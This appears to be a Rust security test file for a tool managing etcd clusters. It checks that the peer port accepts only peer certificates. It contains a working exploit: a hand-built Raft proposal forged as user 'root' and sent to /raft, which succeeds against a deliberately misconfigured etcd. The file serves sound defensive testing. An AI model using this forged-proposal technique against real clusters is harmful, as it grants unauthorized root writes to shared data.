//! The peer port: anyone whom it accepts is root, because Raft messages name any user. So it must accept only peer
//! certificates, never a user's. The attack is tried on an etcd whose peers trust the CA of its clients, where it must
//! succeed, and then on quorate's clusters.

use std::fs;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use serde_json::Value;

use crate::common::intruder::{Answer, Intruder};
use crate::common::trio::read_json;
use crate::common::{Run, Sandbox, address, eventually, lab, lab_versions, spec};

const USER_WITHOUT_ROLES: &str = "auth: {users: [{name: app, roles: []}]}";

/// What `GET /members` tells anyone who is let in.
pub struct Known {
    cluster_id: String,
    member_id: u64,
}

const MEMBERS: &str = "GET /members HTTP/1.1\r\nHost: peer\r\nConnection: close\r\n\r\n";

/// Asks at the peer port for what a forged message needs.
pub fn members(intruder: &Intruder, peer: SocketAddr) -> io::Result<Known> {
    let Answer { status, head, body } = intruder.exchange(peer, &[MEMBERS.as_bytes()])?;
    assert_eq!(status, 200, "{head}");
    let header = head.lines().find_map(|line| line.strip_prefix("X-Etcd-Cluster-Id: "));
    let start = body.find('[').expect("a list");
    let end = body.rfind(']').expect("a whole list");
    let listed: Value = serde_json::from_str(&body[start..=end]).expect("a list of members");
    Ok(Known {
        cluster_id: header.expect("the cluster's id").trim().to_owned(),
        member_id: listed[0]["id"].as_u64().expect("a member's id"),
    })
}

/// Sends the leader a proposal that says it comes from root.
fn forge(intruder: &Intruder, peer: SocketAddr, version: &str, known: &Known) -> io::Result<u16> {
    let body = proposal(known.member_id, "/secret", "forged");
    let head = format!(
        "POST /raft HTTP/1.1\r\nHost: peer\r\nConnection: close\r\nContent-Type: application/protobuf\r\n\
         X-Etcd-Cluster-ID: {}\r\nX-Server-From: 1\r\nX-Server-Version: {version}\r\nX-Min-Cluster-Version: 3.0.0\r\n\
         X-PeerURLs: \r\nContent-Length: {}\r\n\r\n",
        known.cluster_id,
        body.len()
    );
    Ok(intruder.exchange(peer, &[head.as_bytes(), &body])?.status)
}

/// A raft message of type MsgProp, with one entry: a put by root, at an auth revision that is never too old.
fn proposal(to: u64, key: &str, value: &str) -> Vec<u8> {
    let header = [number(1, 4_242_424_242), bytes(2, b"root"), number(3, 1 << 40)].concat();
    let put = [bytes(1, key.as_bytes()), bytes(2, value.as_bytes())].concat();
    let request = [bytes(4, &put), bytes(100, &header)].concat();
    let entry = [number(1, 0), number(2, 0), number(3, 0), bytes(4, &request)].concat();
    [number(1, 2), number(2, to), number(3, to), number(4, 0), bytes(7, &entry)].concat()
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut out = Vec::new();
    while value >= 0x80 {
        out.push((value & 0x7f) as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
    out
}

fn number(field: u64, value: u64) -> Vec<u8> {
    [varint(field << 3), varint(value)].concat()
}

fn bytes(field: u64, value: &[u8]) -> Vec<u8> {
    [varint(field << 3 | 2), varint(value.len() as u64), value.to_vec()].concat()
}

/// An etcd as somebody would set it up who has one CA: auth is on, `app` exists and may do nothing.
struct Bare<'a> {
    sandbox: &'a Sandbox,
    version: &'a str,
    address: String,
    child: Child,
}

impl<'a> Bare<'a> {
    fn start(sandbox: &'a Sandbox, version: &'a str, address: String) -> Self {
        sandbox.make_ca("shared", "ec");
        let names = format!("subjectAltName=IP:{address},IP:127.0.0.1\nextendedKeyUsage=serverAuth,clientAuth\n");
        sandbox.make_certificate("server", "server", "shared", &names);
        sandbox.make_certificate("root", "root", "shared", "extendedKeyUsage=clientAuth\n");
        sandbox.make_certificate("app", "app", "shared", "extendedKeyUsage=clientAuth\n");
        let (client, peer) = (format!("https://{address}:2379"), format!("https://{address}:2380"));
        let mut etcd = Command::new(lab(version).join("etcd"));
        etcd.current_dir(sandbox.path()).env("QUORATE_HOME", sandbox.home());
        etcd.args(["--name=bare", "--data-dir=bare.data", "--logger=zap", "--log-outputs=/dev/null"]);
        for (flag, value) in [
            ("listen-client-urls", client.as_str()),
            ("advertise-client-urls", &client),
            ("listen-peer-urls", &peer),
            ("initial-advertise-peer-urls", &peer),
            ("initial-cluster", &format!("bare={peer}")),
            ("cert-file", "server.crt"),
            ("key-file", "server.key"),
            ("trusted-ca-file", "shared.crt"),
            ("client-cert-auth", "true"),
            ("peer-cert-file", "server.crt"),
            ("peer-key-file", "server.key"),
            ("peer-trusted-ca-file", "shared.crt"),
            ("peer-client-cert-auth", "true"),
        ] {
            etcd.arg(format!("--{flag}={value}"));
        }
        let child = etcd.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("etcd starts");
        let bare = Bare { sandbox, version, address, child };
        eventually("it answers", 20, || bare.etcdctl("root", &["endpoint", "health"]).code == Some(0));
        for arguments in [
            &["user", "add", "root:x"][..],
            &["role", "add", "root"],
            &["user", "grant-role", "root", "root"],
            &["user", "add", "app:x"],
            &["auth", "enable"],
        ] {
            bare.etcdctl("root", arguments).ok();
        }
        bare
    }

    fn etcdctl(&self, user: &str, arguments: &[&str]) -> Run {
        let mut command = Command::new(lab(self.version).join("etcdctl"));
        let endpoint = format!("https://{}:2379", self.address);
        command.current_dir(self.sandbox.path()).env_clear().env("ETCDCTL_API", "3");
        command.args(["--endpoints", &endpoint, "--cacert", "shared.crt"]);
        command.args(["--cert", &format!("{user}.crt"), "--key", &format!("{user}.key")]).args(arguments);
        command.output().expect("etcdctl runs").into()
    }
}

impl Drop for Bare<'_> {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub fn intruder(directory: &Path, name: &str) -> Intruder {
    let file = |kind: &str| directory.join(format!("{name}.{kind}")).display().to_string();
    Intruder::from_files(&file("crt"), &file("key"))
}

/// Without this, the next test would prove nothing.
#[test]
fn where_peers_trust_the_ca_of_clients_any_user_is_root() {
    for (number, version) in (1..).zip(lab_versions()) {
        let sandbox = Sandbox::new(&version);
        let bare = Bare::start(&sandbox, &version, address(number));
        let told = bare.etcdctl("app", &["put", "/secret", "mine"]).fails().stderr;
        assert!(told.contains("permission denied"), "{version}: {told}");
        let app = intruder(sandbox.path(), "app");
        let peer = format!("{}:2380", bare.address).parse().expect("an address");
        let known = members(&app, peer).expect("a user's certificate is let in");
        assert_eq!(forge(&app, peer, &version, &known).expect("let in"), 204, "{version}");
        eventually("the forged put", 5, || bare.etcdctl("root", &["get", "/secret"]).stdout.contains("forged"));
    }
}

#[test]
fn no_certificate_but_a_peers_is_good_at_the_peer_port() {
    for version in lab_versions() {
        let sandbox = Sandbox::new(&version);
        sandbox.file("c.yaml", &spec(1, &version, "", USER_WITHOUT_ROLES));
        sandbox.quorate(&["apply", "c.yaml", "--yes"]).ok();
        sandbox.quorate(&["cert", "issue", "c", "--user", "app", "--out", "out"]).ok();
        let root = sandbox.home().join("machines/c/etcd-1/root");
        let pki = root.join("etc/etcd/pki");
        let mark = read_json(&sandbox.home().join("machines/c/etcd-1/machine.json"));
        let at = |port: u16| -> SocketAddr {
            format!("{}:{port}", mark["address"].as_str().expect("an address")).parse().expect("an address")
        };

        // A peer is let in, and so the requests are right. It has no business with clients.
        let peer = intruder(&pki, "peer");
        let known = members(&peer, at(2380)).expect("a peer is let in");
        members(&peer, at(2379)).err().expect("a peer is no client");

        // It is let in from the addresses in its certificate alone, and there are no names in it: etcd would believe reverse DNS.
        let certificate = pki.join("peer.crt").display().to_string();
        let names = sandbox.openssl(&["x509", "-in", &certificate, "-noout", "-ext", "subjectAltName"]);
        assert!(names.contains("IP Address:127.0.0.1") && !names.contains("DNS:"), "{names}");
        let from = |source: IpAddr| peer.exchange_from(source, at(2380), &[MEMBERS.as_bytes()]).map(|a| a.status);
        assert_eq!(from(at(2380).ip()).expect("from its own address"), 200);
        let elsewhere = address(200).parse().expect("an address");
        from(elsewhere).expect_err("a peer's certificate from elsewhere is refused");

        let app = intruder(&sandbox.path().join("out"), "app");
        let ledger = sandbox.ledger("c");
        let strangers = [
            ("a user", app),
            ("root", intruder(&pki, "root")),
            ("what etcd shows its clients", intruder(&pki, "member")),
            ("an agent", Intruder::agent(&root)),
            ("a controller", Intruder::controller(&ledger)),
            ("a peer that the clients' CA signed", Intruder::signed_by(&ledger["authorities"]["client"], "etcd-1")),
        ];
        for (who, stranger) in &strangers {
            for refused in [members(stranger, at(2380)).map(|_| 0), forge(stranger, at(2380), &version, &known)] {
                let error = refused.err().unwrap_or_else(|| panic!("{who} is let in by etcd {version}"));
                // What is sent after the refusal may find the connection closed before the alert is read.
                let closed = matches!(error.kind(), io::ErrorKind::BrokenPipe | io::ErrorKind::ConnectionReset);
                assert!(closed || error.to_string().contains("alert"), "{who}: refused otherwise than by TLS: {error}");
            }
        }
        // What was refused left no trace.
        assert_eq!(sandbox.etcdctl(&version, "c", &["get", "/secret"]).ok().stdout, "");
        fs::metadata(root.join("etc/etcd/peer-ca.crt")).expect("the peers' CA");
    }
}
